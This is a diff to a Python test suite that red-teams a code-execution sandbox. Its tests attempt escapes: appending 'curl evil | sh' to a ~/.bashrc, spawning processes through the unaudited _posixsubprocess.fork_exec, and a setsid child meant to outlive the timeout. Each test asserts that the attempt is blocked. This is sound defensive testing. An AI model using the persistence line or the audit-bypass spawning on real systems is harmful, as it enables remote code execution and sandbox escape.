@@ -104,12 +104,13 @@ def _host_unchanged(directory: Path) -> None:
     assert sorted(p.name for p in directory.iterdir()) == ["marker.txt"]
 
 
-def _fork_exec_code(argv_expr: str, setsid: bool) -> str:
-    """Start a process with ``_posixsubprocess.fork_exec`` directly (not audited in CPython)."""
+def _fork_exec_code(child_program: str, setsid: bool, tag: str = "") -> str:
+    """Start ``python -c child_program [tag]`` with ``_posixsubprocess.fork_exec`` directly (not
+    audited in CPython)."""
     return textwrap.dedent(
         f"""
         import _posixsubprocess, os, sys
-        argv = {argv_expr}
+        argv = [sys.executable, "-c", {child_program!r}] + ([{tag!r}] if {tag!r} else [])
         r, w = os.pipe()
         pid = _posixsubprocess.fork_exec(
             argv, [os.fsencode(argv[0])], True, (w,), None, None,
@@ -154,7 +155,7 @@ def test_write_to_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     home.mkdir()
     (home / ".bashrc").write_text("# untouched\n")
     monkeypatch.setenv("HOME", str(home))
-    code = f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')\nprint('wrote')"
+    code = DISARM + f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')\nprint('wrote')"
     result = _run(code)
     assert not result.ok and "wrote" not in result.stdout
     assert (home / ".bashrc").read_text() == "# untouched\n"
@@ -226,7 +227,7 @@ def test_parent_environ_through_proc() -> None:
 
 def test_subprocess(host_dir: Path) -> None:
     marker = host_dir / "from-subprocess.txt"
-    code = textwrap.dedent(
+    code = DISARM + textwrap.dedent(
         f"""
         import subprocess, sys
         print(subprocess.run(["id", "-u"], capture_output=True, text=True).stdout)
@@ -241,8 +242,7 @@ def test_subprocess(host_dir: Path) -> None:
 
 def test_posixsubprocess_fork_exec(host_dir: Path) -> None:
     marker = host_dir / "from-fork-exec.txt"
-    argv = f"[sys.executable, '-c', 'open({str(marker)!r}, \"w\").write(\"x\")']"
-    code = _fork_exec_code(argv, setsid=False) + "os.waitpid(pid, 0)\n"
+    code = _fork_exec_code(f"open({str(marker)!r}, 'w').write('x')", setsid=False) + "os.waitpid(pid, 0)\n"
     result = _run(code)
     assert "started" not in result.stdout
     assert not result.ok
@@ -253,8 +253,8 @@ def test_posixsubprocess_fork_exec(host_dir: Path) -> None:
 def test_setsid_child_does_not_outlive_the_timeout(host_dir: Path) -> None:
     tag = "prmforge-redteam-" + secrets.token_hex(6)
     late = host_dir / "late.txt"
-    argv = f"[sys.executable, '-c', 'import time; time.sleep(4); open({str(late)!r}, \"w\").write(\"x\")', {tag!r}]"
-    code = _fork_exec_code(argv, setsid=True) + "import time\ntime.sleep(60)\n"
+    child = f"import time; time.sleep(4); open({str(late)!r}, 'w').write('x')"
+    code = _fork_exec_code(child, setsid=True, tag=tag) + "import time\ntime.sleep(60)\n"
     result = _run(code)
     assert result.status != "ok"
     assert "started" not in result.stdout
